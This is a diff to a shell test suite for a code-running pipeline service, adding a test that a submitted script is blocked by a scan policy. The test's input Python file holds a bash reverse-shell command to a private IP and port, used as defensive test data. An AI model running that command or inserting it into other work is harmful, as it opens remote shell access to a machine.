@@ -105,6 +105,14 @@ the_kernel_says_which_limit_was_met() {
 	hits "" '{"task":"run it","files":{"main.py":"raise SystemExit(\"out of memory, timed out\")\n"},"budget":{"max_attempts":1}}'
 }
 
+what_must_not_run_is_not_run() {
+	pipeline '{"task":"run it","files":{"main.py":"import os\nos.system(\"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\")\n"}}'
+	is "$(get .outcome)" failed "$body"
+	api GET "/v1/pipelines/$(get .run_id)"
+	is "$(get '[.documents[] | select(.kind == "result") | .document | .phase, .phases[0].cause, .scan[0].action] | join(" ")')" \
+		"scan policy block" "$body"
+}
+
 output_is_bounded_and_keeps_both_ends() {
 	pipeline '{"task":"run it","files":{"main.py":"print(\"first\")\nprint(\"x\" * 1000000)\nprint(\"last\")\n"}}'
 	is "$(get .outcome)" plausible
